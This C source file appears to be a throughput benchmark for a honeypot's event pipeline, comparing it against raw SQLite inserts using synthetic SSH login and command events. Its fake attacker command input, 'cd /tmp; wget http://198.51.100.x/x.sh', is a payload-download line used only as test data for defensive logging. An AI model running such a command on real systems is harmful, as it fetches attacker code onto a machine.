/* bench_events: the event pipeline against raw SQLite inserts, in one run.
 *
 * (a) reference: the same rows (encoded beforehand, not timed) inserted into
 *     a fresh database with the same schema and pragmas, one prepared
 *     statement, one transaction per batch_events rows: the most the writer
 *     could do for its SQLite part on this machine.
 * (b) the pipeline: N events with realistic fields made and emitted by
 *     PRODUCERS threads, written to SQLite and JSON lines, timed from the
 *     first emit until everything is committed (event_pipeline_flush).
 *
 * Prints events/s for each and the ratio; exits 1 when the pipeline is under
 * TARGET_EVENTS_PER_S or the ratio under TARGET_RATIO, or when events were
 * lost. Usage: bench_events [N] (default 500000). */
#include "common/util.h"
#include "common/xalloc.h"
#include "event/event.h"
#include "store/store.h"

#include <errno.h>
#include <ftw.h>
#include <pthread.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define DEFAULT_EVENTS 500000
#define PRODUCERS 2
#define BATCH_EVENTS STORE_DEFAULT_BATCH_EVENTS
#define QUEUE_EVENTS STORE_DEFAULT_QUEUE_EVENTS
#define TARGET_EVENTS_PER_S 100000.0
#define TARGET_RATIO 0.5

/* One event as an SSH front end would make it: every second a login, the
 * others commands, with session, addresses, ports and credentials. */
static json_t *make_event(long long i)
{
    char session[32], ip[32], user[32], pass[32], cmd[64];
    snprintf(session, sizeof(session), "s-%08llx", i / 16);
    snprintf(ip, sizeof(ip), "203.0.113.%lld", i % 250 + 1);
    json_t *ev = event_new(i % 2 ? EVENT_COMMAND_INPUT : EVENT_LOGIN_FAILED);
    json_object_set_new(ev, "session", json_string(session));
    json_object_set_new(ev, "honeynet", json_string("hn-7"));
    json_object_set_new(ev, "src_ip", json_string(ip));
    json_object_set_new(ev, "src_port", json_integer(30000 + i % 30000));
    json_object_set_new(ev, "dst_ip", json_string("198.51.100.10"));
    json_object_set_new(ev, "dst_port", json_integer(22));
    if (i % 2) {
        snprintf(cmd, sizeof(cmd), "cd /tmp; wget http://198.51.100.%lld/x.sh", i % 200);
        event_set_str(ev, "input", cmd, strlen(cmd));
    } else {
        snprintf(user, sizeof(user), "user%lld", i % 1000);
        snprintf(pass, sizeof(pass), "pass%lld!", i % 7919);
        event_set_str(ev, "username", user, strlen(user));
        event_set_str(ev, "password", pass, strlen(pass));
    }
    return ev;
}

static int rm_one(const char *path, const struct stat *sb, int flag, struct FTW *ftw)
{
    (void)sb;
    (void)flag;
    (void)ftw;
    return remove(path);
}

static char *make_dir(const char *base, const char *name)
{
    char *d = xasprintf("%s/%s", base, name);
    if (mkdir(d, 0700) < 0) {
        perror(d);
        exit(2);
    }
    return d;
}

static int exec_or_die(sqlite3 *db, const char *sql)
{
    char *msg = NULL;
    if (sqlite3_exec(db, sql, NULL, NULL, &msg) != SQLITE_OK) {
        fprintf(stderr, "bench: %s: %s\n", sql, msg ? msg : "?");
        exit(2);
    }
    return 0;
}

/* (a) Returns rows/s. */
static double bench_raw(const char *dir, struct event_record **recs, long long n)
{
    char *path = xasprintf("%s/%s", dir, STORE_DB_NAME);
    sqlite3 *db = NULL;
    sqlite3_stmt *ins = NULL;

    if (sqlite3_open(path, &db) != SQLITE_OK)
        exit(2);
    exec_or_die(db, "PRAGMA journal_mode = WAL; PRAGMA synchronous = NORMAL;"
                    "CREATE TABLE events(id INTEGER PRIMARY KEY, ts TEXT, type TEXT, sensor TEXT,"
                    " session TEXT, honeynet TEXT, src_ip TEXT, data TEXT NOT NULL);"
                    "CREATE INDEX events_type ON events(type);"
                    "CREATE INDEX events_session ON events(session);"
                    "CREATE INDEX events_ts ON events(ts);");
    if (sqlite3_prepare_v2(db,
                           "INSERT INTO events(ts, type, sensor, session, honeynet, src_ip, data)"
                           " VALUES(?, ?, ?, ?, ?, ?, ?)",
                           -1, &ins, NULL) != SQLITE_OK)
        exit(2);
    long long t0 = util_mono_us();
    for (long long i = 0; i < n;) {
        exec_or_die(db, "BEGIN IMMEDIATE");
        for (long long end = i + BATCH_EVENTS; i < n && i < end; i++) {
            const struct event_record *r = recs[i];
            sqlite3_bind_text(ins, 1, r->ts, -1, SQLITE_STATIC);
            sqlite3_bind_text(ins, 2, r->type_name, -1, SQLITE_STATIC);
            sqlite3_bind_text(ins, 3, r->sensor, -1, SQLITE_STATIC);
            sqlite3_bind_text(ins, 4, r->session, -1, SQLITE_STATIC);
            sqlite3_bind_text(ins, 5, r->honeynet, -1, SQLITE_STATIC);
            sqlite3_bind_text(ins, 6, r->src_ip, -1, SQLITE_STATIC);
            sqlite3_bind_text(ins, 7, r->line, (int)r->len, SQLITE_STATIC);
            if (sqlite3_step(ins) != SQLITE_DONE)
                exit(2);
            sqlite3_reset(ins);
        }
        exec_or_die(db, "COMMIT");
    }
    double secs = (double)(util_mono_us() - t0) / 1e6;
    sqlite3_finalize(ins);
    sqlite3_close(db);
    free(path);
    return (double)n / secs;
}

static unsigned long long commits;

static void count_commit(long long last_id, size_t n, void *ud)
{
    (void)last_id;
    (void)n;
    (void)ud;
    commits++;
}

struct producer {
    struct event_pipeline *p;
    long long from, to;
    long long failed;
};

static void *produce(void *arg)
{
    struct producer *pr = arg;
    for (long long i = pr->from; i < pr->to; i++)
        if (event_emit(pr->p, make_event(i)) != 0)
            pr->failed++;
    return NULL;
}

/* (b) Returns events/s, or -1 when events were lost. */
static double bench_pipeline(const char *dir, long long n)
{
    struct store_options o = {.dir = dir,
                              .jsonl = true,
                              .sensor = "bench",
                              .queue_events = QUEUE_EVENTS,
                              .batch_events = BATCH_EVENTS,
                              .emit_wait_ms = 60000,
                              .on_commit = count_commit};
    struct event_pipeline *p = NULL;
    struct producer pr[PRODUCERS];
    pthread_t th[PRODUCERS];
    char err[256];

    if (event_pipeline_start(&o, &p, err, sizeof(err)) < 0) {
        fprintf(stderr, "bench: %s\n", err);
        exit(2);
    }
    long long t0 = util_mono_us();
    for (int k = 0; k < PRODUCERS; k++) {
        pr[k] = (struct producer){p, n * k / PRODUCERS, n * (k + 1) / PRODUCERS, 0};
        pthread_create(&th[k], NULL, produce, &pr[k]);
    }
    long long failed = 0;
    for (int k = 0; k < PRODUCERS; k++) {
        pthread_join(th[k], NULL);
        failed += pr[k].failed;
    }
    double emit_secs = (double)(util_mono_us() - t0) / 1e6;
    int frc = event_pipeline_flush(p, 600000);
    double secs = (double)(util_mono_us() - t0) / 1e6;
    struct event_pipeline_stats st;
    event_pipeline_stats(p, &st);
    int src = event_pipeline_stop(p);
    printf("pipeline: emitting took %.2f s, all committed at %.2f s, %llu transactions\n",
           emit_secs, secs, commits);
    printf("pipeline: %llu committed, %llu in JSON lines, %llu dropped, %llu failed writes\n",
           st.committed, st.jsonl_written, st.dropped, st.failed_writes);
    if (failed || frc < 0 || src < 0 || st.committed != (unsigned long long)n ||
        st.jsonl_written != (unsigned long long)n)
        return -1;
    return (double)n / secs;
}

int main(int argc, char **argv)
{
    long long n = DEFAULT_EVENTS;
    if (argc > 1 && util_parse_ll(argv[1], 1000, 100000000, &n) < 0) {
        fprintf(stderr, "usage: bench_events [N >= 1000]\n");
        return 2;
    }
    const char *tmp = getenv("TMPDIR");
    char *base = xasprintf("%s/karakuri-bench.XXXXXX", tmp && *tmp ? tmp : "/tmp");
    if (!mkdtemp(base)) {
        perror("mkdtemp");
        return 2;
    }
    char *raw_dir = make_dir(base, "raw"), *pipe_dir = make_dir(base, "pipeline");
    sync();

    /* The reference's rows: the pipeline's own encoding of the same events. */
    struct event_record **recs = xmalloc((size_t)n * sizeof(struct event_record *));
    for (long long i = 0; i < n; i++) {
        json_t *ev = make_event(i);
        if (event_encode(ev, "bench", util_now_us(), &recs[i]) < 0)
            return 2;
        json_decref(ev);
    }
    printf("events: %lld, batch %u, %d producers, state in %s\n", n, BATCH_EVENTS, PRODUCERS, base);
    double raw = bench_raw(raw_dir, recs, n);
    for (long long i = 0; i < n; i++)
        event_record_free(recs[i]);
    free(recs);
    printf("raw SQLite inserts:                 %10.0f rows/s\n", raw);
    /* The reference's files go, and the kernel writes back what is dirty,
     * so that its writeback does not run during the pipeline's turn. */
    nftw(raw_dir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
    sync();
    double pipe = bench_pipeline(pipe_dir, n);
    nftw(base, rm_one, 16, FTW_DEPTH | FTW_PHYS);
    free(raw_dir);
    free(pipe_dir);
    free(base);
    if (pipe < 0) {
        printf("FAIL: events were lost\n");
        return 1;
    }
    double ratio = pipe / raw;
    printf("pipeline (emit -> SQLite + JSONL):  %10.0f events/s\n", pipe);
    printf("ratio pipeline / raw:               %10.2f\n", ratio);
    bool ok = pipe >= TARGET_EVENTS_PER_S && ratio >= TARGET_RATIO;
    printf("%s: targets >= %.0f events/s and ratio >= %.2f\n", ok ? "PASS" : "FAIL",
           TARGET_EVENTS_PER_S, TARGET_RATIO);
    return ok ? 0 : 1;
}
